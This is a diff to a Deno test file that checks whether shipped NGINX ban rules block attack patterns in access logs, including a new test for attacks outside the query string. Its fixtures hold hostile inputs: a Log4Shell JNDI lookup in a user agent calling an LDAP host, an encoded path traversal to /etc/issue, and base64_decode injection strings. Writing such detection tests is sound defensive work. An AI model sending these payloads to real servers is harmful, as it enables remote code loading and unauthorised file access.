@@ -166,6 +166,11 @@ const HABITS: Readonly<Record<string, Readonly<Record<string, Habit>>>> = {
         ),
     },
     exploit: {
+      who: "reads notes about attacks",
+      every: 5 * MINUTE,
+      line: (i) => get(`/notes/base64_decode(${i}`, 200),
+    },
+    exploit_query: {
       who: "stores notes about attacks",
       every: 5 * MINUTE,
       line: (i) => get(`/notes/save?text=base64_decode(${i}`, 200),
@@ -521,9 +526,20 @@ Deno.test("the shipped rules of NGINX ban an attack in a search's words or besid
   ) {
     assert.deepEqual(
       bansOf("NGINX", Array.from({ length: 3 }, () => get(`/?${query}`, 200)), 1),
-      ["exploit"],
+      ["exploit_query"],
       query,
     );
+  }
+});
+
+Deno.test("the shipped rules of NGINX ban an attack outside of the query, whatever is searched", () => {
+  for (
+    const line of [
+      access("GET /?q=a HTTP/1.1", 200, { agent: "${jndi:ldap://198.51.100.7/a}" }),
+      get("/static/%2e%2e/%2e%2e/etc/issue?search=a&page=2", 400),
+    ]
+  ) {
+    assert.deepEqual(bansOf("NGINX", Array.from({ length: 3 }, () => line), 1), ["exploit"], line);
   }
 });
 
